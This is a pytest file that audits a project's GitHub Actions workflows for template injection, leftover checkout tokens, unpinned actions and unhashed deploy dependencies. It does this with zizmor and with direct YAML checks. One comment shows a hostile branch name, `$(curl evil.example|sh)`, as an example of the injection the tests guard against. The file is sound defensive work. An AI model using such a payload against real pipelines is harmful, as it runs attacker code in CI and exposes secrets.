"""Hostile pull requests against the workflows: a branch name or title that is shell script, a token left where the
pull request's code can read it, an action tag moved to other code, a package replaced on the index.

zizmor audits .github/ offline at its default persona and must find nothing; the same audit must catch the
workflow as it was before issue #12.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
LOCK = ROOT / "requirements" / "deploy.txt"


def zizmor(*targets: Path) -> subprocess.CompletedProcess[str]:
    executable = shutil.which("zizmor", path=str(Path(sys.executable).parent)) or shutil.which("zizmor")
    assert executable, "zizmor is not installed: pip install -e '.[test]'"
    env = {key: value for key, value in os.environ.items() if key not in ("GH_TOKEN", "GITHUB_TOKEN")}
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY", "all_proxy"):
        env[name] = "http://127.0.0.1:9"  # a proxy that goes nowhere: offline means offline
    return subprocess.run([executable, "--offline", "--no-progress", "--format", "plain", *map(str, targets)],
                          check=False, capture_output=True, text=True, env=env, timeout=120)


def steps_of(path: Path) -> list[dict]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    return [step for job in data["jobs"].values() for step in job.get("steps", [])]


def test_zizmor_finds_nothing_in_the_workflows_or_dependabot():
    result = zizmor(ROOT / ".github")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings to report" in result.stdout + result.stderr


def test_zizmor_catches_the_workflow_as_it_was_before(tmp_path):
    # The pull request workflow before #12: a tag pin, the token kept in .git/config, the base branch's name
    # pasted into the script (a branch named `$(curl evil.example|sh)` would run).
    hostile = (ROOT / ".github" / "workflows" / "pr.yml").read_text(encoding="utf-8")
    hostile = re.sub(r"actions/checkout@[0-9a-f]{40} # v[\d.]+", "actions/checkout@v4", hostile)
    hostile = hostile.replace("          persist-credentials: false\n", "")
    hostile = hostile.replace('"origin/$BASE_REF"', '"origin/${{ github.base_ref }}"')
    assert hostile.count("actions/checkout@v4") == 1 and "${{ github.base_ref }}\"" in hostile
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "pr.yml").write_text(hostile, encoding="utf-8")

    result = zizmor(workflows / "pr.yml")

    assert result.returncode != 0
    found = set(re.findall(r"(?:error|warning|help|info)\[([\w-]+)\]", result.stdout))
    assert {"template-injection", "artipacked", "unpinned-uses"} <= found, result.stdout


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(path):
    for step in steps_of(path):
        assert "${{" not in step.get("run", ""), f"{path.name}: {step.get('name')}: use env: instead"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_checkout_leaves_no_token_behind(path):
    for step in steps_of(path):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step.get("with", {}).get("persist-credentials") is False, f"{path.name}: {step.get('name')}"


def locked() -> dict[str, tuple[str, list[str]]]:
    """requirements/deploy.txt as {name: (version, hashes)}."""
    text = LOCK.read_text(encoding="utf-8").replace("\\\n", " ")
    packages = {}
    for line in text.splitlines():
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        requirement, *options = line.split(" --hash=")
        name, version = requirement.strip().split("==")
        packages[canonicalize_name(name)] = (version, [o.strip() for o in options])
    return packages


def test_the_deploy_job_installs_only_what_the_lock_file_pins_with_hashes():
    install = next(s for s in steps_of(ROOT / ".github" / "workflows" / "deploy.yml")
                   if "requirements/deploy.txt" in s.get("run", ""))
    commands = [line.strip() for line in install["run"].strip().splitlines()]
    assert commands == ["python -m pip install --require-hashes --no-deps -r requirements/deploy.txt",
                        "python -m pip install --no-deps --no-build-isolation -e ."]
    setup = next(s for s in steps_of(ROOT / ".github" / "workflows" / "deploy.yml")
                 if s.get("uses", "").startswith("actions/setup-python@"))
    assert "cache" not in setup.get("with", {}), "what is published must not come from a cache"

    packages = locked()
    for name, (version, hashes) in packages.items():
        assert re.fullmatch(r"[\w.+!-]+", version), name
        assert hashes and all(re.fullmatch(r"sha256:[0-9a-f]{64}", h) for h in hashes), name
    # Everything Kindred needs at run time, and what builds it, at versions pyproject.toml accepts:
    # after a new dependency, `make lock`.
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    needed = [Requirement(r) for r in project["project"]["dependencies"] + project["build-system"]["requires"]]
    for requirement in needed:
        name = canonicalize_name(requirement.name)
        assert name in packages, f"{requirement} is not in requirements/deploy.txt: run `make lock`"
        assert requirement.specifier.contains(packages[name][0], prereleases=True), (
            f"requirements/deploy.txt pins {name} {packages[name][0]}, outside {requirement}: run `make lock`")
